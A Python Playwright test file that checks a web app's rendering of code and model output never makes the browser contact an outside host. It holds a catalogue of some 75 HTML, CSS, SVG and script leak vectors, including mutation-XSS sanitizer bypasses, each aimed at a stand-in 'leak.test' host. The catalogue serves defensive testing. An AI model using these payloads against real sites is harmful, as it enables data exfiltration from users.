"""Output of code and models makes a browser contact no other host: no look-up, no connection."""

from contextlib import suppress

import pytest
from playwright.sync_api import Error, expect

from tests.web.conftest import Site
from tests.web.observer import observed

pytestmark = [
    pytest.mark.slow,
    pytest.mark.thorough,
    pytest.mark.browser,
    pytest.mark.timeout(240),
]

PIXEL = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"

WAYS = {
    "refresh": '<meta http-equiv="refresh" content="0;url=URL">',
    "refresh-in-body": '<p>x</p><div><META HTTP-EQUIV=reFresh content="0; URL=URL"></div>',
    "policy-report": '<meta http-equiv="Content-Security-Policy" '
    'content="img-src x;report-uri URL">',
    "frame": '<iframe src="URL"></iframe>',
    "frame-srcdoc": "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=URL'>\"></iframe>",
    "frame-srcdoc-link": "<iframe srcdoc=\"<link rel=preconnect href='URL'>\"></iframe>",
    "frameset": '<frameset><frame src="URL"></frameset>',
    "object": '<object data="URL"></object>',
    "embed": '<embed src="URL">',
    "link": '<a href="URL">a link</a>',
    "link-ping": '<a href="#x" ping="URL">a link</a><p id=x>',
    "link-target": '<a href="URL" target="_top">a link</a>',
    "link-download": '<a href="URL" download>a link</a>',
    "link-new": '<a href="URL" target="_blank" rel="opener">a link</a>',
    "base": '<base href="URL"><a href="x">a link</a><img src="y">',
    "base-target": '<base target="_blank"><a href="URL">a link</a>',
    "area": f'<img src="{PIXEL}" usemap="#m" width=50 height=50><map name=m>'
    '<area shape=rect coords="0,0,50,50" href="URL"></map>',
    "svg-link": '<svg><a href="URL"><text y=20>a link</text></a></svg>',
    "svg-xlink": '<svg><a xlink:href="URL"><text y=20>a link</text></a></svg>',
    "svg-set": '<svg><a><set attributeName=href to="URL"/><text y=20>a link</text></a></svg>',
    "svg-use": '<svg><use href="URL#a"/></svg>',
    "svg-image": '<svg><image href="URL" width=9 height=9 /></svg>',
    "svg-fe-image": '<svg><filter id=f><feImage href="URL"/></filter>'
    '<rect width=9 height=9 filter="url(#f)"/></svg>',
    "svg-paint": '<svg><rect width=9 height=9 fill="url(URL#p)"/></svg>',
    "svg-foreign": '<svg><foreignObject><iframe src="URL"></iframe></foreignObject></svg>',
    "svg-style": "<svg><style>@import 'URL';</style></svg>",
    "math-link": '<math><mrow href="URL"><mtext>a link</mtext></mrow></math>',
    "dns-prefetch": '<link rel="dns-prefetch" href="URL">',
    "preconnect": '<link rel="preconnect" href="URL">',
    "prefetch": '<link rel="prefetch" href="URL">',
    "prerender": '<link rel="prerender" href="URL">',
    "preload": '<link rel="preload" as="image" href="URL">',
    "modulepreload": '<link rel="modulepreload" href="URL">',
    "stylesheet": '<link rel="stylesheet" href="URL">',
    "icon": '<link rel="icon" href="URL">',
    "manifest": '<link rel="manifest" href="URL">',
    "form": '<form action="URL"><button>a link</button></form>',
    "form-input": '<form><input type=submit formaction="URL" value="a link"></form>',
    "form-image": '<form action="URL"><input type=image src="URL" alt="a link"></form>',
    "form-dialog": '<button form=f formaction="URL">a link</button><form id=f></form>',
    "image": '<img src="URL">',
    "image-set": '<img srcset="URL 1x" sizes="9px">',
    "image-lazy": '<img loading=lazy src="URL">',
    "picture": f'<picture><source srcset="URL"><img src="{PIXEL}"></picture>',
    "input-image": '<input type="image" src="URL">',
    "background": '<table background="URL"><tr><td background="URL">x</table>',
    "body-background": '<body background="URL">x',
    "audio": '<audio src="URL" autoplay></audio>',
    "video": '<video poster="URL"><source src="URL"><track src="URL" default></video>',
    "css-import": "<style>@import url(URL);</style>",
    "css-url": "<style>body { background: url(URL) }</style>",
    "css-escaped": r"<style>body { background: \75\72\6c(URL) }</style>",
    "css-image-set": '<style>body { background: image-set("URL" 1x) }</style>',
    "css-variable": "<style>body { --x: url(URL); background: var(--x) }</style>",
    "css-fallback": "<style>body { background: var(--none, url(URL)) }</style>",
    "css-nested": "<style>@media all { body { & p { background: url(URL) } } }</style><p>x",
    "css-font": "<style>@font-face { font-family: f; src: url(URL) } p { font: 9px f }</style><p>x",
    "css-cursor": "<style>p { cursor: url(URL), auto }</style><p>x",
    "css-content": '<style>p::after { content: url("URL") }</style><p>x',
    "css-list": '<ul style="list-style: url(URL)"><li>x</ul>',
    "css-attribute": '<p style="background-image: url(&quot;URL&quot;)">x',
    "css-keyframes": "<style>@keyframes k { from { background: url(URL) } }"
    " p { animation: k 9s }</style><p>x",
    "script": "<script>location = 'URL'</script>",
    "script-open": "<img src=x onerror=\"open('URL')\">",
    "script-link": "<a href=\"javascript:open('URL')\">a link</a>",
    "speculation": '<script type="speculationrules">{"prerender":[{"source":"list",'
    '"urls":["URL"]}]}</script>',
    "portal": '<portal src="URL"></portal><fencedframe src="URL"></fencedframe>',
    "template": '<template shadowrootmode="open"><img src="URL"><a href="URL">x</a></template>',
    "noscript": '<noscript><img src="URL"><meta http-equiv=refresh content="0;url=URL"></noscript>',
    "comment": '<!--[if true]><img src="URL"><![endif]--><!-->a<img src="URL">',
    "mutation": '<svg></p><style><a id="</style><img src=URL>">x',
    "mutation-math": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--><img src=URL>'>",
    "mutation-noscript": '<noscript><p title="</noscript><img src=URL>">',
}
"""Each is to reach a host of its own."""

BEGIN = """async () => {
  const { Runs } = await import('/runs.js');
  const log = document.createElement('div');
  document.body.replaceChildren(log);
  const runs = new Runs({}, () => {}, () => {}, () => {});
  window.show = (html) => {
    log.replaceChildren();
    runs.begin({ id: 'x', language: 'html', code: 'x' }, log);
    runs.output({ id: 'x', mime: 'text/html', text: html });
    const { contentWindow } = log.querySelector('iframe.result');
    return new Promise((shown) => {
      addEventListener('message', ({ source }) => { if (source === contentWindow) shown(); });
      setTimeout(shown, 5_000);
    });
  };
}"""
"""As the page shows what code displays, one after the other."""

PLAINLY = """async (ways) => {
  document.body.replaceChildren(...Object.values(ways).map((html) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = html;
    return frame;
  }));
}"""
"""As a page would that does nothing about it."""

PRESSED = "a, area, button, input, [href], text, summary, mrow"


def addressed() -> dict[str, str]:
    return {
        name: way.replace("URL", f"http://{name}.leak.test/x?what=was+read")
        for name, way in WAYS.items()
    }


def test_no_way_of_html_leads_a_browser_anywhere(site: Site) -> None:
    with observed(WAYS) as seen:
        opened = seen.page
        opened.goto(site.url)
        opened.evaluate(BEGIN)
        for name, html in addressed().items():
            opened.evaluate("(html) => window.show(html)", html)
            frame = opened.frames[-1]
            assert frame.url.endswith("/frame.html"), name
            for element in frame.locator(PRESSED).all():
                for button in ("left", "middle"):
                    with suppress(Error):  # what has no extent cannot be pressed
                        element.click(force=True, timeout=500, button=button)
            assert frame.url.partition("#")[0].endswith("/frame.html"), name
        # A part of what is shown may be opened in a tab of its own.
        pages = opened.context.pages
        assert all(page.url.startswith((site.url, "about:blank")) for page in pages)
    assert seen.hosts == frozenset()


def test_what_leads_somewhere_would_be_seen(site: Site) -> None:
    with observed(WAYS) as seen:
        seen.page.goto("about:blank")
        seen.page.evaluate(PLAINLY, addressed())
        expect(seen.page.frame_locator("iframe").last.locator("body")).to_be_attached()
    assert len(seen.hosts) >= 30, sorted(seen.hosts)


def test_an_answer_leads_a_browser_nowhere_before_its_links_are_followed(site: Site) -> None:
    answer = (
        "[the bank](http://link.leak.test/x) and [this](http://me@other.leak.test/x), "
        "![a](http://image.leak.test/x), <img src=http://html.leak.test/x>, "
        "<http://auto.leak.test/x>, http://bare.leak.test/x\n\n"
        "- [in a list](http://list.leak.test/x)\n"
    )
    with observed(("link", "other", "image", "html", "auto", "bare", "list")) as seen:
        opened = seen.page
        opened.goto(site.url)
        opened.evaluate(
            """async (text) => {
              const { markdown } = await import('/markdown.js');
              document.body.replaceChildren(markdown(text));
              document.body.className = 'answer';
              window.open = (...given) => { window.opened = given; };
            }""",
            answer,
        )
        bank = opened.get_by_role("link", name="the bank")
        expect(opened.locator("body")).to_contain_text("the bank (link.leak.test)")
        expect(opened.locator("body")).to_contain_text("this (other.leak.test)")
        assert opened.locator("body [href], body [src]").count() == 0
        for link in opened.get_by_role("link").all():
            link.hover()
        bank.press("Enter")
        followed = ["http://link.leak.test/x", "_blank", "noreferrer,noopener"]
        assert opened.evaluate("() => window.opened") == followed
    assert seen.hosts == frozenset()


def test_html_of_code_keeps_its_looks(site: Site) -> None:
    html = (
        "<style>td { color: rgb(200, 0, 0) } @media all { b { color: rgb(0, 0, 200) } }</style>"
        f"<table class=x><tr><td style='text-align: right'>1<td><b>2</b></table><img src='{PIXEL}'>"
        "<a href='#end'>down</a> <a href='https://example.org/x'>there</a>"
        "<svg viewBox='0 0 9 9'><defs><linearGradient id=g><stop stop-color=red /></linearGradient>"
        "<path id=p d='M0 0h9v9z'/></defs><use xlink:href='#p' fill='url(#g)'/></svg><p id=end>end"
    )
    with observed(()) as seen:
        opened = seen.page
        opened.goto(site.url)
        opened.evaluate(BEGIN)
        opened.evaluate("(html) => window.show(html)", html)
        frame = opened.frame_locator("iframe.result")
        expect(frame.locator("td").first).to_have_css("color", "rgb(200, 0, 0)")
        expect(frame.locator("td").first).to_have_css("text-align", "right")
        expect(frame.locator("b")).to_have_css("color", "rgb(0, 0, 200)")
        expect(frame.locator("img")).to_have_attribute("src", PIXEL)
        expect(frame.locator("use")).to_have_attribute("href", "#p")
        expect(frame.locator("use")).to_have_attribute("fill", "url(#g)")
        expect(frame.locator("linearGradient stop")).to_have_attribute("stop-color", "red")
        expect(frame.get_by_text("down")).to_have_attribute("href", "#end")
        expect(frame.locator("body")).to_contain_text("there (example.org)")
